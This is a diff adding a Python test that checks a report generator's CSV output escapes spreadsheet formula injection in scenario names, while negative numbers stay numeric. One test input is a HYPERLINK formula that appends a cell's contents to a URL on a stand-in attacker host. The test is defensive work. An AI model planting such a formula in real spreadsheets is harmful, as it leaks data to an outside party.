@@ -6,7 +6,11 @@ with), so these tests need no database fixture and run once, not per backend.
 
 from __future__ import annotations
 
+import csv
+import io
+import re
 import tomllib
+from dataclasses import replace
 from datetime import date
 from decimal import Decimal
 from pathlib import Path
@@ -22,7 +26,7 @@ from samfard.geo.traveltime import GeodesicProvider
 from samfard.money import times
 from samfard.reports.scenarios.centre import centre_lines, load_centre, parse_centre, price
 from samfard.reports.scenarios.job import file_of, run_scenario_task
-from samfard.reports.scenarios.render import write_report
+from samfard.reports.scenarios.render import write_csv, write_report
 from samfard.reports.scenarios.runner import PrincipalDay, ScenarioRun, run_spec
 from samfard.reports.scenarios.spec import load_spec, parse_spec, with_overrides
 from samfard.reports.scenarios.summary import (
@@ -220,6 +224,38 @@ def test_the_same_spec_and_seed_give_the_same_report(
     assert "<svg" in html and "Per huvudman" in html
     pdf = (tmp_path / "a" / "scenario.pdf").read_bytes()
     assert pdf.startswith(b"%PDF") and b"Per huvudman" in pdf
+
+
+@pytest.mark.parametrize(
+    "names", [('=HYPERLINK("http://evil.example/?x="&A1,"Klicka")', "+bas"), ("-egna", "@bas")]
+)
+def test_scenario_names_are_csv_text_and_a_negative_difference_stays_a_number(
+    small_runs: tuple[ScenarioRun, ScenarioRun], tmp_path: Path, names: tuple[str, str]
+) -> None:
+    """Scenario names come from the SPEC: one a spreadsheet would read as a formula is
+    written with a leading quote (samfard.spreadsheet). With the own vehicles as the
+    baseline the procured fleet's difference is negative, and it stays a plain number."""
+    run, _ = small_runs
+    bas, egna = run.spec.scenarios
+    first, second = names
+    swapped = replace(
+        run,
+        spec=replace(run.spec, scenarios=(replace(egna, name=first), replace(bas, name=second))),
+        results={first: run.results["egna"], second: run.results["bas"]},
+    )
+    tables = {
+        path.name: list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
+        for path in write_csv(swapped, tmp_path)
+    }
+    for rows in tables.values():
+        for value in (v for row in rows for v in row.values()):
+            if not re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", value):
+                assert not value.startswith(("=", "+", "-", "@")), value
+    lines = {(r["scenario"], r["principal"]): r for r in tables["principals.csv"]}
+    assert {s for s, _ in lines} == {"'" + first, "'" + second}
+    mean = lines[("'" + second, ALL)]["diff_kr_per_day_mean"]
+    assert Decimal(mean) < 0 and mean.startswith("-")
+    assert {r["scenario"] for r in tables["sensitivity.csv"]} == {"'" + second}
 
 
 def test_the_command_refuses_a_bad_spec_with_its_message_and_writes_nothing(
